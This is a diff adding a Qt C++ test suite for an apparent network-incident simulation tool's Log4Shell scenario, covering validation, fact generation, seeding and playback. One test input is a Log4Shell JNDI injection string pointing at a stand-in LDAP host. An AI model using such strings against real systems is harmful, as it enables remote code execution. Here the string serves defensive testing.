@@ -1,0 +1,245 @@
+#include "scenario/library.h"
+#include "scenario/player.h"
+#include "scenario/storyteller.h"
+
+#include <QFile>
+#include <QJsonDocument>
+#include <QSignalSpy>
+#include <QTemporaryDir>
+#include <QTest>
+
+using namespace sandtable;
+using namespace sandtable::scenario;
+using namespace Qt::StringLiterals;
+
+namespace
+{
+
+QJsonObject log4shellDocument()
+{
+    return ScenarioLibrary().find(u"log4shell")->source;
+}
+
+/// Puts `value` at a path like `beats.3.at_ms`; Undefined removes it.
+QJsonValue changed(const QJsonValue &document, const QStringList &path, const QJsonValue &value)
+{
+    if (path.isEmpty())
+        return value;
+    if (document.isArray()) {
+        QJsonArray array = document.toArray();
+        const qsizetype index = path.constFirst().toInt();
+        array.replace(index, changed(array.at(index), path.mid(1), value));
+        return array;
+    }
+    QJsonObject object = document.toObject();
+    const QJsonValue inner = changed(object.value(path.constFirst()), path.mid(1), value);
+    if (inner.isUndefined())
+        object.remove(path.constFirst());
+    else
+        object.insert(path.constFirst(), inner);
+    return object;
+}
+
+} // namespace
+
+class ScenarioTest : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void theLibraryHasTheClassic();
+    void namesThePlaceOfMistakes_data();
+    void namesThePlaceOfMistakes();
+    void aFolderAddsAndReplaces();
+    void drawsFreshFactsInTheirRanges_data();
+    void drawsFreshFactsInTheirRanges();
+    void tellsTheSameStoryForTheSameSeed();
+    void takesWhatWasTyped();
+    void playsInOrder_data();
+    void playsInOrder();
+    void stopsWhenTold();
+};
+
+void ScenarioTest::theLibraryHasTheClassic()
+{
+    const ScenarioLibrary library;
+    const Scenario *scenario = library.find(u"log4shell");
+    QVERIFY(scenario);
+    QCOMPARE(scenario->sightings.size(), 2);
+    for (const QString &kind : {u"attacker"_s, u"internet"_s, u"router"_s, u"firewall"_s, u"switch"_s, u"access-point"_s, u"camera"_s, u"web-server"_s})
+        QVERIFY2(scenario->nodeOfKind(kind), qPrintable(kind));
+    const auto wireless = std::count_if(scenario->links.cbegin(), scenario->links.cend(), [](const Link &link) { return link.wireless; });
+    QCOMPARE(wireless, 4);
+    QVERIFY(scenario->duration() > std::chrono::seconds(5) && scenario->duration() < std::chrono::seconds(20));
+}
+
+void ScenarioTest::namesThePlaceOfMistakes_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QJsonValue>("value");
+    QTest::addColumn<QString>("place");
+    QTest::addColumn<QString>("detail");
+    QTest::newRow("number") << u"beats.3.at_ms"_s << QJsonValue(u"soon"_s) << u"beats[3].at_ms"_s << u"expected a number"_s;
+    QTest::newRow("order") << u"beats.3.at_ms"_s << QJsonValue(1) << u"beats[3].at_ms"_s << u"earlier"_s;
+    QTest::newRow("missing") << u"incident.title"_s << QJsonValue(QJsonValue::Undefined) << u"incident.title"_s << u"expected a text"_s;
+    QTest::newRow("unknown key") << u"login.colour"_s << QJsonValue(u"red"_s) << u"login.colour"_s << u"unknown"_s;
+    QTest::newRow("unknown node") << u"beats.2.node"_s << QJsonValue(u"moon"_s) << u"beats[2].node"_s << u"no node moon"_s;
+    QTest::newRow("no such link") << u"beats.1.path.2"_s << QJsonValue(u"files"_s) << u"beats[1].path[2]"_s << u"no link"_s;
+    QTest::newRow("kind of node") << u"nodes.0.kind"_s << QJsonValue(u"toaster"_s) << u"nodes[0].kind"_s << u"expected one of"_s;
+    QTest::newRow("off the plane") << u"nodes.0.x"_s << QJsonValue(2000) << u"nodes[0].x"_s << u"from 0 to 1000"_s;
+    QTest::newRow("twice the same node") << u"nodes.1.id"_s << QJsonValue(u"attacker"_s) << u"nodes[1].id"_s << u"another node"_s;
+    QTest::newRow("placeholder nobody draws") << u"incident.title"_s << QJsonValue(u"{{nothing}}"_s) << u"incident.title"_s << u"no placeholder nothing"_s;
+    QTest::newRow("kind of fact") << u"placeholders.attacker_ip"_s << QJsonValue(u"telephone"_s) << u"placeholders.attacker_ip"_s << u"expected one of"_s;
+    QTest::newRow("version") << u"version"_s << QJsonValue(2) << u"version"_s << u"from 1 to 1"_s;
+    QTest::newRow("format") << u"format"_s << QJsonValue(u"play"_s) << u"format"_s << u"expected one of"_s;
+    QTest::newRow("list") << u"sightings"_s << QJsonValue(QJsonArray()) << u"sightings"_s << u"not empty"_s;
+    QTest::newRow("two sightings of one name") << u"sightings.1.name"_s << QJsonValue(u"connection"_s) << u"sightings[1].name"_s << u"taken"_s;
+    QTest::newRow("deep") << u"sightings.0.targets.0.observables.0.type"_s << QJsonValue(7) << u"sightings[0].targets[0].observables[0].type"_s << u"expected a text"_s;
+    QTest::newRow("detected when blocked") << u"blocked_beats.0.kind"_s << QJsonValue(u"detected"_s) << u"blocked_beats"_s << u"not detected again"_s;
+    QTest::newRow("id") << u"id"_s << QJsonValue(u"Two Words"_s) << u"id"_s << u"small letters"_s;
+}
+
+void ScenarioTest::namesThePlaceOfMistakes()
+{
+    QFETCH(QString, path);
+    QFETCH(QJsonValue, value);
+    QFETCH(QString, place);
+    QFETCH(QString, detail);
+    const QJsonObject document = changed(log4shellDocument(), path.split(u'.'), value).toObject();
+    const Result<Scenario> scenario = Scenario::parse(QJsonDocument(document).toJson());
+    QVERIFY(!scenario.has_value());
+    QCOMPARE(scenario.error().kind, ErrorKind::Document);
+    QCOMPARE(scenario.error().place, place);
+    QVERIFY2(scenario.error().detail.contains(detail), qPrintable(scenario.error().detail));
+}
+
+void ScenarioTest::aFolderAddsAndReplaces()
+{
+    QTemporaryDir folder;
+    const auto write = [&](const QString &name, const QByteArray &text) {
+        QFile file(folder.filePath(name));
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write(text);
+    };
+    QJsonObject other = log4shellDocument();
+    other.insert(u"id"_s, u"other"_s);
+    QJsonObject same = log4shellDocument();
+    same.insert(u"title"_s, u"Mine"_s);
+    write(u"a.json"_s, QJsonDocument(other).toJson());
+    write(u"b.json"_s, QJsonDocument(same).toJson());
+    write(u"c.json"_s, "{ \"format\": nope }");
+    ScenarioLibrary library;
+    const qsizetype before = library.scenarios().size();
+    const QList<Error> problems = library.addFolder(folder.path());
+    QCOMPARE(problems.size(), 1);
+    QVERIFY(problems.constFirst().service.endsWith(u"c.json"_s));
+    QVERIFY(problems.constFirst().place.startsWith(u"line 1"_s));
+    QCOMPARE(library.scenarios().size(), before + 1);
+    QCOMPARE(library.find(u"log4shell")->title, u"Mine"_s);
+    QVERIFY(library.addFolder(folder.filePath(u"none"_s)).isEmpty());
+}
+
+void ScenarioTest::drawsFreshFactsInTheirRanges_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("pattern");
+    QTest::newRow("ipv4") << u"ipv4"_s << u"^(198\\.51\\.100|203\\.0\\.113)\\.([1-9]\\d?|1\\d\\d|2[0-4]\\d|25[0-4])$"_s;
+    QTest::newRow("ipv6") << u"ipv6"_s << u"^2001:db8:[0-9a-f]{1,4}:[0-9a-f]{1,4}::[0-9a-f]{1,4}$"_s;
+    QTest::newRow("domain") << u"domain"_s << u"^[a-z]+\\.example$"_s;
+    QTest::newRow("url") << u"url"_s << u"^http://[a-z]+\\.example/[a-z]+$"_s;
+    QTest::newRow("sha256") << u"sha256"_s << u"^[0-9a-f]{64}$"_s;
+    QTest::newRow("sha1") << u"sha1"_s << u"^[0-9a-f]{40}$"_s;
+    QTest::newRow("md5") << u"md5"_s << u"^[0-9a-f]{32}$"_s;
+    QTest::newRow("uuid") << u"uuid"_s << u"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"_s;
+    QTest::newRow("hostname") << u"hostname"_s << u"^[a-z]+-\\d\\d$"_s;
+}
+
+void ScenarioTest::drawsFreshFactsInTheirRanges()
+{
+    QFETCH(QString, kind);
+    QFETCH(QString, pattern);
+    SystemRandom random;
+    for (int i = 0; i < 200; ++i) {
+        const QString fact = drawFact(kind, random);
+        QVERIFY2(QRegularExpression(pattern).match(fact).hasMatch(), qPrintable(fact));
+    }
+}
+
+void ScenarioTest::tellsTheSameStoryForTheSameSeed()
+{
+    const ScenarioLibrary library;
+    const Scenario &scenario = *library.find(u"log4shell");
+    SeededRandom a(11);
+    SeededRandom b(11);
+    SeededRandom c(12);
+    const Result<Story> first = tellStory(scenario, a, u"run-1"_s, {});
+    const Result<Story> again = tellStory(scenario, b, u"run-1"_s, {});
+    const Result<Story> other = tellStory(scenario, c, u"run-2"_s, {});
+    QVERIFY(first.has_value() && again.has_value() && other.has_value());
+    QCOMPARE(first->facts, again->facts);
+    QVERIFY(first->facts.value(u"attacker_ip"_s) != other->facts.value(u"attacker_ip"_s));
+    QCOMPARE(first->attackers(), QStringList{first->facts.value(u"attacker_ip"_s)});
+    const QByteArray text = QJsonDocument(first->scenario.source).toJson();
+    QVERIFY(!text.contains("{{"));
+    QVERIFY(text.contains(first->facts.value(u"loader_sha256"_s).toUtf8()));
+    QVERIFY(first->facts.value(u"payload"_s).contains(first->facts.value(u"ldap_host"_s)));
+}
+
+void ScenarioTest::takesWhatWasTyped()
+{
+    const ScenarioLibrary library;
+    SeededRandom random(3);
+    for (const QString &typed : {u"${jndi:ldap://x.example/a}"_s, u"{{attacker_ip}} {{nothing}} \"quoted\" <b>"_s, QString(100000, u'x')}) {
+        const Result<Story> story = tellStory(*library.find(u"log4shell"), random, u"run"_s, typed);
+        QVERIFY(story.has_value());
+        const QString fact = story->facts.value(u"payload"_s);
+        QVERIFY(fact.size() <= 2100 && !fact.contains(u"{{"_s));
+        QVERIFY(story->scenario.beats.at(1).text.contains(fact));
+    }
+}
+
+void ScenarioTest::playsInOrder_data()
+{
+    QTest::addColumn<bool>("dropped");
+    QTest::newRow("attack") << false;
+    QTest::newRow("dropped by the firewall") << true;
+}
+
+void ScenarioTest::playsInOrder()
+{
+    QFETCH(bool, dropped);
+    const ScenarioLibrary library;
+    SeededRandom random(5);
+    const Result<Story> story = tellStory(*library.find(u"log4shell"), random, u"run"_s, {});
+    ScenarioPlayer player;
+    QSignalSpy detected(&player, &ScenarioPlayer::detected);
+    QSignalSpy finished(&player, &ScenarioPlayer::finished);
+    QList<Beat> played;
+    connect(&player, &ScenarioPlayer::beatPlayed, this, [&](const Beat &beat) { played.append(beat); });
+    player.play(story->scenario, ScenarioPlayer::Pace::Instant, dropped);
+    QVERIFY(played.isEmpty());
+    QTRY_COMPARE(finished.size(), 1);
+    QCOMPARE(played, dropped ? story->scenario.blockedBeats : story->scenario.beats);
+    QCOMPARE(detected.size(), dropped ? 0 : 1);
+    QVERIFY(!player.isPlaying());
+}
+
+void ScenarioTest::stopsWhenTold()
+{
+    const ScenarioLibrary library;
+    ScenarioPlayer player;
+    QSignalSpy finished(&player, &ScenarioPlayer::finished);
+    int count = 0;
+    connect(&player, &ScenarioPlayer::beatPlayed, this, [&] {
+        if (++count == 3)
+            player.stop();
+    });
+    player.play(*library.find(u"log4shell"), ScenarioPlayer::Pace::Instant, false);
+    QTRY_COMPARE(count, 3);
+    QTest::qWait(20);
+    QCOMPARE(count, 3);
+    QCOMPARE(finished.size(), 0);
+}
+
+QTEST_GUILESS_MAIN(ScenarioTest)
+#include "tst_scenario.moc"
